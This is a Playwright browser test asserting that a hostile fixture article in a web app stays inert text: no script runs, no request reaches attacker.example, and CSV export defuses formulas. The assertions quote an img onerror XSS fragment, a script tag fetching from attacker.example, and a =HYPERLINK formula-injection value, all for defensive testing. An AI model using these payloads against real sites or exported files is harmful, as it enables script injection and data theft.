import { expect, test } from '@playwright/test';

/**
 * Article text is untrusted. tests/fixtures/hostile-app holds an article whose title, source and text
 * carry markup and scripts aimed at attacker.example: everywhere the app shows them, they are text, no
 * script runs and no request leaves for the attacker.
 */
test('a hostile article stays text everywhere: no script runs, nothing goes to the attacker', async ({ page }) => {
	const dialogs: string[] = [];
	const attacker: string[] = [];
	page.on('dialog', (d) => {
		dialogs.push(d.message());
		void d.dismiss();
	});
	page.on('request', (r) => {
		if (r.url().includes('attacker.example')) attacker.push(r.url());
	});

	const response = await page.goto('/articles/mali-ceasefire');
	expect(response?.headers()['content-security-policy']).toMatch(/script-src 'self'/);
	await expect(page.getByRole('heading', { level: 1 })).toContainText('<img src=x onerror=');
	await expect(page.locator('.text')).toContainText("<script>fetch('https://attacker.example/body')</script>");
	await expect(page.locator('.kicker')).toContainText('<script>');
	await expect(page.locator('.warnings')).toContainText('not an http(s) address');
	expect(await page.locator('main img, main script, main iframe, a[href^="javascript:"]').count()).toBe(0);

	// Its events: in the panel, on the timeline, on their permalink page with its preview metadata.
	await page.locator('.events a').filter({ hasText: 'ceasefire' }).first().click();
	await expect(page.locator('.panel h2')).toBeVisible();
	await expect(page.locator('.panel .source a').first()).toContainText('<img src=x onerror=');
	await expect(page.locator('.panel .meta').first()).toContainText('<script>');
	const permalink = await page.locator('#permalink').inputValue();
	await page.goto(permalink);
	await expect(page.locator('.panel h2')).toBeVisible();
	expect(await page.title()).toContain('< img src = x');
	await expect(page.locator('meta[property="og:title"]')).toHaveAttribute('content', /< img src = x/);

	await page.goto('/list?q=Kidal');
	await expect(page.locator('tbody')).toContainText('< img src = x');

	// A title that a spreadsheet would run as a formula is exported as text.
	const csv = await (await page.request.get('/download/events.csv?q=Kidal')).text();
	expect(csv).toContain(`"'=HYPERLINK(`);
	expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);

	expect(dialogs).toEqual([]);
	expect(attacker).toEqual([]);
});
